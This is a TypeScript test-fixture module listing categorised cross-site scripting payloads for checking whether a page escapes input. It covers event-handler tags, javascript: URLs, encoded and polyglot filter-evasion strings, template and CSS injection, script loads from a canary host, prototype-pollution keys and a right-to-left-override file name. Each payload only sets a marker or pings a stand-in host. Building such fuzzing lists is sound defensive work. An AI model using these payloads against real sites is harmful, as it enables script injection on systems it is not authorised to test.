/** Texts that become code where they are put into a page unescaped; each sets `window.ran` then, opens a dialog, or asks a canary. */

const RUN = 'window.ran=1';
const SCRIPT = `<script>${RUN}</script>`;
const IMAGE = `<img src=x onerror=${RUN}>`;
const CANARY = 'https://canary.example/x';

/** Elements with an event that comes by itself, or nearly so. */
const ELEMENTS: readonly [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['image src=x', 'onerror'],
  ['img src=x:x', 'onerror\x09'],
  ['img/src=x', '/onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x to=0', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['svg><foreignObject><img src=x', 'onerror'],
  ['math><mtext><img src=x', 'onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onfocus'],
  ['body', 'onhashchange'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['x tabindex=1 autofocus', 'onfocus'],
  ['x contenteditable autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['dialog open', 'onclose'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=/favicon.svg', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['track default src=x', 'onerror'],
  ['frameset', 'onload'],
  ['x style=transition:color+1s', 'ontransitionend'],
  ['x popover', 'onbeforetoggle'],
];

/** Ends of whatever a text could stand in. */
const CLOSERS: readonly string[] = [
  ...['', '"', "'", '`', '">', "'>", '`>', '\\">', "\\'>"],
  ...['</script>', '</title>', '</textarea>', '</style>', '</noscript>', '</template>', '</iframe>', '</xmp>'],
  ...['</select>', '</option>', '</table>', '</td>', '</a>', '</code>', '</pre>', '</svg>', '</math>'],
  ...['-->', '--!>', ']]>', '*/', '?>', '%>', ';', '\n'],
];

const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript://shop.example/%0a${RUN}`,
  `javascript:/*${CANARY}*/${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,${SCRIPT}`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=',
  `//canary.example/x`,
  `\\\\canary.example\\x`,
  CANARY,
];

const EVENTS = ['onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onclick', 'onblur'];

const TEMPLATES: readonly string[] = [
  `{{constructor.constructor("${RUN}")()}}`,
  `{{$on.constructor("${RUN}")()}}`,
  `{{_c.constructor("${RUN}")()}}`,
  '{{7*7}}',
  '{%7*7%}',
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\${${RUN}}`,
  '$' + '{alert`1`}',
  `[[${RUN}]]`,
  `<div v-html="'${IMAGE}'">`,
  `<div ng-app ng-init="${RUN}">`,
  `<div x-data x-init="${RUN}">`,
  `<div data-bind="html: '${IMAGE}'">`,
  '@(7*7)',
  '%s %d %o %n %x',
];

const STYLES: readonly string[] = [
  `<style>@import "${CANARY}.css"</style>`,
  `<style>*{background:url(${CANARY})}</style>`,
  `<link rel=stylesheet href=${CANARY}.css>`,
  `<x style="background:url(${CANARY})">`,
  `<x style="animation-name:x" onanimationstart=${RUN}>`,
  `";background:url(${CANARY});"`,
  `expression(${RUN})`,
  `-moz-binding:url(${CANARY})`,
  '</style><style>*{display:none}</style>',
  '<x style=position:fixed;inset:0;z-index:9999>',
  '}*{color:red}/*',
];

const ENCODED: readonly string[] = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '\\x3cscript\\x3ewindow.ran=1\\x3c/script\\x3e',
  '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  `\u00c0\u00bcscript\u00c0\u00be${RUN}`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\ufffdscript\ufffd${RUN}`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>script>${RUN}</script>`,
  `<script\x0c>${RUN}</script>`,
  `<script/src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>alert(1)</script>`,
  `<script src=${CANARY}.js></script>`,
  `<script>fetch('${CANARY}')</script>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<template shadowrootmode=open>${IMAGE}</template>`,
];

const POLYGLOTS: readonly string[] = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${RUN} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>${IMAGE}`,
  `"'\`><svg/onload=${RUN}>{{7*7}}\${7*7}<%= 7*7 %>`,
  `';${RUN}//";${RUN}//\`;${RUN}//--></script>">'>${SCRIPT}`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<math><annotation-xml encoding="text/html">${IMAGE}`,
  `<table><td>${IMAGE}<tr><script>${RUN}</script>`,
];

const STRANGE: readonly string[] = [
  `\u202e${SCRIPT}\u202c`,
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068order\u2069',
  '\u200f\u061cشکرا <b>x</b>',
  'a\u200bb\u200cc\u200dd\ufeffe',
  'Z\u0335\u0327a\u0334\u0321l\u0338\u0328g\u0337\u0322o\u0336',
  '👩‍👩‍👧‍👦🏳️‍🌈🇨🇭',
  '𝕊𝕔𝕣𝕚𝕡𝕥',
  '\u2028line\u2029paragraph',
  'tab\tnewline\nend',
  'W'.repeat(240),
  '<b>'.repeat(70),
  'Donaudampfschifffahrtsgesellschaft'.repeat(7),
  '"'.repeat(100) + "'".repeat(100),
];

const NAMES: readonly string[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__proto__[ran]'],
  ...['{"__proto__":{"ran":1}}', 'constructor.prototype.ran=1', 'null', 'undefined', 'NaN', '[object Object]'],
];

/** Every text, by what it tries. */
export const PAYLOADS_BY_KIND: Readonly<Record<string, readonly string[]>> = {
  elements: ELEMENTS.map(([element, event]) => `<${element} ${event}=${RUN}>`),
  scripts: CLOSERS.map((closer) => closer + SCRIPT),
  images: CLOSERS.slice(1).map((closer) => closer + IMAGE),
  addresses: [
    ...ADDRESSES,
    ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
    `<iframe src="javascript:parent.ran=1"></iframe>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<base href="https://canary.example/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  ],
  attributes: ['"', "'", '`'].flatMap((quote) =>
    EVENTS.map((event) => `${quote} ${event}=${quote}${RUN}${quote} autofocus x=${quote}`),
  ),
  templates: TEMPLATES,
  styles: STYLES,
  encoded: ENCODED,
  polyglots: POLYGLOTS,
  strange: STRANGE,
  names: NAMES,
};

export const PAYLOADS: readonly string[] = Object.values(PAYLOADS_BY_KIND).flat();

/** All of them, joined to texts that fit into a field of so many characters; one line each, so that none hides in another. */
export function batches(most: number, payloads: readonly string[] = PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads.map((text) => text.slice(0, most))) {
    const last = texts.at(-1);
    if (last === undefined || last.length + payload.length + 3 > most) texts.push(payload);
    else texts[texts.length - 1] = `${last} | ${payload}`;
  }
  return texts;
}
